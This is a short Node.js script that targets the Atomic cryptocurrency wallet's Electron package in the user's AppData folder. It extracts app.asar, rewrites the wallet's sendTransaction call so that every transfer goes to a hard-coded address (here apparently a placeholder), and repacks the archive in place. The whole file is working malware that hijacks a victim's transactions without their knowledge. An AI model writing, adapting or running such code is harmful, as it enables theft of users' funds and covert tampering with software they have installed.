const fs = require('fs'), path = require('path'), asar = require('@electron/asar'), os = require('os');
const base = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'atomic', 'resources');
const app = path.join(base, 'app.asar');
(async () => {
  if (!fs.existsSync(app)) return;
  const tmp = path.join(os.tmpdir(), 'atm');
  asar.extractAll(app, tmp);
  const v = path.join(tmp, 'dist/electron/vendors.js');
  const t = fs.readFileSync(v, 'utf8').replace('sendTransaction(a,b)', 'sendTransaction("0x0000000000000000000000000000000000000001",b)');
  fs.writeFileSync(v, t);
  await asar.createPackage(tmp, app);
})();